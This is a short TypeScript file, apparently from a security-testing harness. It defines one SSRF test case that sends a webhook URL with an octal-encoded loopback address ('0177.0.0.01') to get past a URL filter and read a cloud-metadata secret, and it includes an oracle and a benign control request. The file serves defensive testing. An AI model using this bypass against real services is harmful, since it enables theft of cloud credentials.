import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Passes the same filter with an octal address. */
export const ssrfWebhookOctal: Attack = defineAttack({
  id: 'ssrf-webhook-octal',
  class: 'ssrf',
  title: 'Passes the same filter with an octal address',
  cwe: 918,
  capec: 664,
  technique: 'T1552.005',
  preconditions: [],

  steps: ({ visitor, sink }) => visitor.json('/api/webhook', { url: sink.url('metadata', '0177.0.0.01') }),
  oracle: (answer, { sink }) => sink.hits().length > 0 && answer.text.includes(sink.secret),
  twin: ({ visitor }) => visitor.json('/api/webhook', { url: 'https://hooks.partner.invalid/orders' }),
  twinServed: (answer) => answer.status === 502 && answer.text.includes('could not reach'),
})
